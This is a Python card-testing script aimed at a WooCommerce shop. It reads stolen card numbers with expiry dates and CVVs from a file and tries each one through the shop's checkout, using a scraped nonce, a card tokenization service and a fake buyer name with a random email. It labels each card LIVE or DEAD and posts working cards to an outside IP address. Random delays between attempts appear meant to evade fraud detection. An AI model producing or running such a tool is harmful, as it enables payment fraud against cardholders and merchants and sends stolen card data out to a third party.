import random
import re
import sys
import time

import requests

SHOP = "https://shop.balaclava-store.invalid"
REPORT = "http://198.51.100.221/api/valid"


def checkout(session, card):
    number, month, year, cvv = card.split("|")
    session.post(f"{SHOP}/?wc-ajax=add_to_cart", data={"product_id": 1337, "quantity": 1})
    page = session.get(f"{SHOP}/checkout/").text
    nonce = re.search(r'name="woocommerce-process-checkout-nonce" value="([^"]+)"', page).group(1)
    token = session.post("https://tokenize.cybersource.invalid/v2/tokens",
                         json={"number": number, "expMonth": month, "expYear": year}).json()["token"]
    r = session.post(f"{SHOP}/?wc-ajax=checkout", data={
        "billing_first_name": "John", "billing_last_name": "Doe", "billing_email": f"jd{random.randint(1, 9999)}@mail.invalid",
        "payment_method": "cybersource", "cybersource_token": token, "cvv": cvv,
        "woocommerce-process-checkout-nonce": nonce})
    return "success" in r.text


def main():
    cards = open(sys.argv[1]).read().split()
    for card in cards:
        ok = checkout(requests.Session(), card)
        if ok:
            requests.post(REPORT, json={"card": card})
        print(("LIVE " if ok else "DEAD ") + card)
        time.sleep(random.uniform(2, 6))
